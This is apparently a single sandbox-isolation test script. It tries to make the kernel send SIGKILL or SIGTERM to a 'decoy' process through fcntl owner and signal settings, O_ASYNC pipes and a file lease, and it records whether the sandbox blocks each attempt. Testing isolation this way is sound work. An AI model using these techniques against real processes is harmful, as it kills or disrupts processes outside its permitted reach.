# s113_fcntl_owner [syscall] has the kernel send signals to the decoy: F_SETOWN, F_SETSIG, O_ASYNC
# expect: ok|error|signal ; invariants: decoy_alive
import ctypes, fcntl, json, os, signal, socket, struct, sys, time
C = json.load(open("_attack.json")) if os.path.exists("_attack.json") else {}
def esc(what): print("ESCAPED:" + what, flush=True)
def safe(f, *a, **k):
    try: return f(*a, **k)
    except BaseException as e: print("blocked:", type(e).__name__, str(e)[:120], flush=True); return None
l = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
def call(n86, n64, *a):
    r = l.syscall(ctypes.c_long(n86 if x86 else n64), *a); print(n86, r, ctypes.get_errno(), flush=True); return r

victim = int(C.get("decoy_pid", 1))
for pid in (victim, -victim):
    for number in (signal.SIGKILL, signal.SIGTERM):
        def arm():
            r, w = os.pipe()
            fcntl.fcntl(r, 8, pid)  # F_SETOWN
            fcntl.fcntl(r, 10, number)  # F_SETSIG
            fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | 0x2000)  # O_ASYNC
            os.write(w, b"x")
        safe(arm)
        def arm_ex():
            r, w = os.pipe()
            fcntl.fcntl(r, 15, struct.pack("ii", 1, pid))  # F_SETOWN_EX, F_OWNER_PID
            fcntl.fcntl(r, 10, number)
            fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | 0x2000)
            os.write(w, b"x")
        safe(arm_ex)
def lease():
    open("leased", "w").close()
    fd = os.open("leased", os.O_RDONLY)
    fcntl.fcntl(fd, 8, victim); fcntl.fcntl(fd, 10, signal.SIGKILL)
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    os.open("leased", os.O_WRONLY | os.O_NONBLOCK)
safe(lease)
time.sleep(0.3)
